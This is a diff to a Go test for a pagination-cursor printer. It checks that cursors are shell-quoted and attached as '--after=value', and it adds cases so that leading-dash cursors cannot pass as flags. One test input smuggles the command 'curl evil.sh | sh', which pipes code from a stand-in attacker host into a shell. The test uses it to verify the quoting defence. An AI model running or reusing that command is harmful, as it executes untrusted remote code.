@@ -196,9 +196,12 @@ func TestPrinters_ShowNoControlOrFormatCharacters(t *testing.T) {
 // of the route: refused, not shown.
 func TestPrintPage_ShowsTheCursorAsOneShellWord(t *testing.T) {
 	for _, c := range []struct{ next, want string }{
-		{`eyJrIjoiYSJ9_-.=:/+`, "more: --after eyJrIjoiYSJ9_-.=:/+\n"},
-		{`abc; curl evil.sh | sh #`, `more: --after 'abc; curl evil.sh | sh #'` + "\n"},
-		{`a'b $(x) \\`, `more: --after 'a'\''b $(x) \\'` + "\n"},
+		{`eyJrIjoiYSJ9_-.=:/+`, "more: --after=eyJrIjoiYSJ9_-.=:/+\n"},
+		{`abc; curl evil.sh | sh #`, `more: --after='abc; curl evil.sh | sh #'` + "\n"},
+		{`a'b $(x) \\`, `more: --after='a'\''b $(x) \\'` + "\n"},
+		// A cursor starting with '-' stays --after's value, not a flag of its own.
+		{`--version`, "more: --after=--version\n"},
+		{`-o`, "more: --after=-o\n"},
 	} {
 		answer, _ := json.Marshal(map[string]any{"skus": []any{}, "next": c.next})
 		var out strings.Builder
